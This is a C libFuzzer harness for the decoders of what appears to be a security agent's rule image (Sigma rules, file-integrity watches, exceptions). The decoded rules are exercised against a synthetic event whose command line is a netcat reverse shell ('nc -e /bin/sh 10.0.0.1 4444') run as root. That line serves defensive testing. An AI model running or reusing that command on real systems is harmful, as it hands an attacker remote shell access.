/*
 * fuzz_image: the decoders of the compiled content image the worker
 * loads from its validator (lib/content/image, sigma_set_decode,
 * fim_watch_decode, except_list_decode).  The first byte picks the
 * decoder; the rest is its input.  For a whole image (3) the target also
 * re-seals the payload (recomputes its length and checksum) so the
 * fuzzer gets past the checksum into the sections.  What decodes is
 * used: process rules matched, paths checked, exceptions applied.
 */
#include <stdint.h>
#include <string.h>

#include "content/image.h"
#include "crypto/digest.h"
#include "util/alloc.h"

static void
use(const struct sigma_set *s, const struct fim_watch *w, const struct except_list *l)
{
	static const uint8_t sha[32];
	struct sigma_event ev;
	size_t i;

	memset(&ev, 0, sizeof(ev));
	ev.field[SF_IMAGE] = "/usr/bin/nc";
	ev.field[SF_COMMANDLINE] = "nc -e /bin/sh 10.0.0.1 4444";
	ev.field[SF_USER] = "root";
	for (i = 0; s != NULL && i < sigma_set_count(s); i++)
		(void)sigma_match(s, i, &ev);
	if (w != NULL)
		(void)fim_watch_covers(w, "/etc/passwd");
	if (l != NULL)
		(void)except_match(l, "/opt/a/b.so", "EICAR", sha);
}

static void
whole(const uint8_t *p, size_t n)
{
	struct content_set cs;
	struct ward_diag d;
	uint8_t *copy;
	int rebuilt;
	size_t i;

	if (content_image_decode(p, n, &cs, &rebuilt, &d) == 0) {
		use(cs.sigma, &cs.fim, &cs.exc);
		content_set_free(&cs);
	}
	if (n < 52 || (copy = ward_memdup(p, n)) == NULL)
		return;
	for (i = 0; i < 8; i++)
		copy[12 + i] = (uint8_t)((uint64_t)(n - 52) >> (8 * i));
	if (digest_buf(DIGEST_SHA256, copy + 52, n - 52, copy + 20, 32) == 0 &&
	    content_image_decode(copy, n, &cs, &rebuilt, &d) == 0) {
		use(cs.sigma, &cs.fim, &cs.exc);
		content_set_free(&cs);
	}
	ward_free(copy);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct sigma_set *s = NULL;
	struct fim_watch w;
	struct except_list l;
	struct ward_diag d;
	struct rbuf b;

	if (size < 1)
		return 0;
	rbuf_init(&b, data + 1, size - 1);
	switch (data[0] % 4) {
	case 0:
		if (sigma_set_decode(&b, &s, &d) == 0) {
			use(s, NULL, NULL);
			sigma_set_free(s);
		}
		break;
	case 1:
		if (fim_watch_decode(&b, &w, &d) == 0) {
			use(NULL, &w, NULL);
			fim_watch_free(&w);
		}
		break;
	case 2:
		if (except_list_decode(&b, &l, &d) == 0) {
			use(NULL, NULL, &l);
			except_list_free(&l);
		}
		break;
	default:
		whole(data + 1, size - 1);
		break;
	}
	return 0;
}
